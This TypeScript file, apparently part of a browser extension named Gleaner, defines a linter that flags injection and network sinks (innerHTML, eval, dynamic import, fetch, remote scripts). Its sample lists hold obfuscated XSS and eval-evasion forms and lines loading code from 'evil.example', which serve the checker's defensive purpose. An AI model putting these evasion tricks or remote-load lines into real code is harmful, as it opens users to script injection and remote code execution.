import { type Finding, isTest, type SourceFile, withoutComments } from './source.ts';

/** A way by which a text could become mark-up, code or a request, with a line of code that goes it. */
export interface Sink {
  name: string;
  broken: RegExp;
  /** Each of them must be found. */
  offends: readonly string[];
  advice: string;
}

const NO_MARKUP = 'text never becomes mark-up: use text nodes and attributes';
const NO_CODE = 'text never becomes code';
const NO_REQUEST =
  'Gleaner sends no request: what a page does not hold stays empty, and Zotero is spoken to in lib/zotero/connector.ts';

export const SINKS: readonly Sink[] = [
  {
    name: 'a property that takes mark-up',
    broken: /\b(?:inner|outer)HTML\b|\bdangerouslySetInnerHTML\b|\bsrcdoc\b|\bsrcDoc\b/,
    offends: [
      'element.innerHTML = title;',
      "element['inner' + 'HTML'] = title;",
      "element[['inner', 'HTML'].join('')] = title;",
      'element[`inner$' + "{'HTML'}`] = title;",
      "element['\\x69nnerHTML'] = title;",
      "element['\\u{69}nnerHTML'] = title;",
      "Reflect.set(element, 'outerHTML', title);",
      'Object.assign(element, { innerHTML: title });',
      'frame.srcdoc = title;',
      '<div dangerouslySetInnerHTML={{ __html: title }} />',
    ],
    advice: NO_MARKUP,
  },
  {
    name: 'a function that takes mark-up',
    broken:
      /\binsertAdjacentHTML\b|\bsetHTML(?:Unsafe)?\b|\bparseHTML(?:Unsafe)?\b|\bcreateContextualFragment\b|\bDOMParser\b|\bdocument\s*(?:\?\.|\.)\s*write(?:ln)?\b|\bexecCommand\b|\bXSLTProcessor\b/,
    offends: [
      "element.insertAdjacentHTML('beforeend', title);",
      "element['insertAdjacent' + 'HTML']('beforeend', title);",
      'document.createRange().createContextualFragment(title);',
      "new DOMParser().parseFromString(title, 'text/html');",
      'document.write(title);',
      'document?.writeln(title);',
      'element.setHTMLUnsafe(title);',
      'Document.parseHTMLUnsafe(title);',
    ],
    advice: NO_MARKUP,
  },
  {
    name: 'a name made at run time for something to be set',
    broken: /\bReflect\s*\.\s*(?:set|defineProperty)\b|\w\[[^\]\n]*['"`]\s*\+|\w\[[^\]\n]*\+\s*['"`]/,
    offends: [
      'Reflect.set(element, name, title);',
      "element['inner' + kind] = title;",
      "element[part + 'HTML'] = title;",
      'Reflect.defineProperty(element, name, { value: title });',
    ],
    advice: 'name what is set, so that a reader and this rule can see it',
  },
  {
    name: 'a listener made of text',
    broken: /\bsetAttribute(?:NS)?\(\s*(?:[\w.]+,\s*)?['"`]on|\.on[a-z]+\s*=\s*['"`]|\son[a-z]+=\s*['"`]/i,
    offends: [
      "element.setAttribute('onclick', title);",
      "element.setAttributeNS(null, 'onload', title);",
      "element.onclick = 'go()';",
      '<button onclick="go()">',
    ],
    advice: NO_CODE,
  },
  {
    name: 'an address that is code',
    broken: /['"`]\s*(?:javascript|vbscript|data:text\/html)\b/i,
    offends: [
      "link.href = 'javascript:go()';",
      "link.href = 'java' + 'script:go()';",
      'link.href = `data:text/html,x`;',
    ],
    advice: 'links lead to the web: take them from webAddress',
  },
  {
    name: 'a text run as code',
    broken:
      /\beval\b|\bFunction\s*\(|\.constructor\s*\(|\[\s*['"`]constructor['"`]\s*\]|\bset(?:Timeout|Interval)\s*\(\s*['"`]|\bcreatePolicy\b/,
    offends: [
      'eval(title);',
      "globalThis['ev' + 'al'](title);",
      '(0, eval)(title);',
      'new Function(title)();',
      '(() => {}).constructor(title)();',
      "[]['constructor']['constructor'](title)();",
      "setTimeout('go()', 1);",
      'window.setInterval(`go()`, 1);',
      "trustedTypes.createPolicy('all', {});",
    ],
    advice: NO_CODE,
  },
  {
    name: 'code from elsewhere',
    broken:
      /\bimport\s*\(\s*(?!['"]\.{1,2}\/)|\bimportScripts\b|\bnew\s+(?:Shared)?Worker\b|\bcreateElement(?:NS)?\(\s*(?:[^,()]+,\s*)?['"`](?:script|iframe|object|embed|base|form)\b|<(?:script|iframe|object|embed|base)\s+[a-z/]/,
    offends: [
      'await import(address);',
      "await import('https://evil.example/x.js');",
      'await import(`./$' + '{name}.ts`);',
      "importScripts('https://evil.example/x.js');",
      "document.createElement('script');",
      "document.createElementNS(SVG, 'script');",
      "new Worker('x.js');",
      '<iframe src={address} />',
    ],
    advice: 'everything that runs comes with the extension, and is imported by its name',
  },
  {
    name: 'a request',
    broken:
      /\bfetch\b\s*(?:['"`]\s*\])?\s*[(,;)]|\bXMLHttpRequest\b|\bWebSocket\b|\bsendBeacon\b|\bEventSource\b|\bWebTransport\b|\bRTCPeerConnection\b|\bfetchLater\b|\bnew\s+(?:Image|Audio|FontFace)\b/,
    offends: [
      "await fetch('https://huggingface.co');",
      "await globalThis['fe' + 'tch'](address);",
      'const ask = fetch;',
      'new XMLHttpRequest();',
      "new WebSocket('wss://evil.example');",
      'navigator.sendBeacon(address);',
      'new EventSource(address);',
      'new RTCPeerConnection();',
      'new Image().src = address;',
    ],
    advice: NO_REQUEST,
  },
  {
    name: 'a picture, style or frame from elsewhere',
    broken: /\b(?:src|srcset|poster)=\{?\s*['"`]\s*(?:https?:)?\/\/|url\(\s*['"]?(?:https?:)?\/\/|@import\b/,
    offends: [
      '<img src="https://cdn.example/x.png" />',
      '<img src={`//cdn.example/x.png`} />',
      'background: url(https://cdn.example/x.png);',
      "@import 'https://cdn.example/x.css';",
    ],
    advice: 'no remote picture, font or style is ever loaded',
  },
];

// The two requests there are: a packaged file, read from the extension itself; and papers to Zotero on this computer, when
// the user sends them.
const ASKING = ['lib/platform/packaged-files.ts', 'lib/zotero/connector.ts'];

/** Sinks in what runs in the extension. Tests and scripts may parse pages and ask local servers. */
export function openSinks(files: readonly SourceFile[]): Finding[] {
  return files
    .filter(({ path }) => !isTest(path) && !path.startsWith('scripts/'))
    .flatMap(({ path, text }) => {
      const code = readable(text);
      return SINKS.filter(
        ({ name, broken }) => broken.test(code) && !(ASKING.includes(path) && name === 'a request'),
      ).map(({ broken, advice }) => ({ path, advice: `${broken.exec(code)?.[0]}: ${advice}` }));
    });
}

/** Code with its texts as they are when it runs: what is put together or escaped in the source is whole here. */
export function readable(text: string): string {
  return withoutComments(text)
    .replace(/\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|u\{([0-9a-f]{1,6})\})/gi, (whole, x, u, long) => {
      const letter = String.fromCodePoint(Number.parseInt(x ?? u ?? long, 16));
      return /\w/.test(letter) ? letter : whole;
    })
    .replace(/\$\{\s*(['"`])([^'"`]*)\1\s*\}/g, '$2')
    .replace(/(['"`])\s*,\s*(['"`])(?=[^\]\n]*\]\s*\.\s*join\()/g, '')
    .replace(/(['"`])\s*\+\s*(['"`])/g, '');
}
